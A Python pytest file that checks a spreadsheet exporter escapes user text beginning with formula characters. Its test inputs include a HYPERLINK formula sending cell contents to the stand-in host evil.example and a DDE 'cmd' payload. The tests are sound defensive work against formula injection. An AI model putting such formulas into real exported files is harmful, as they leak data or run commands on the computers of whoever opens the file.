"""Spreadsheet cells: text typed by people never runs as a formula in Excel or LibreOffice."""

import pytest

from kotoplan.core.exporters import spreadsheet_row, spreadsheet_safe


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"Klikkaa")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_spreadsheet_safe__formula_starts_become_text(typed):
    assert spreadsheet_safe(typed) == "'" + typed


@pytest.mark.parametrize("plain", ["-5", "-0,5", "-12.75", "Kotoutuminen", "", "50 %", "2025–2028"])
def test_spreadsheet_safe__numbers_and_ordinary_text_unchanged(plain):
    assert spreadsheet_safe(plain) == plain


def test_spreadsheet_row__only_text_cells_change():
    assert spreadsheet_row(["=1", 3, None, "ok"]) == ["'=1", 3, None, "ok"]
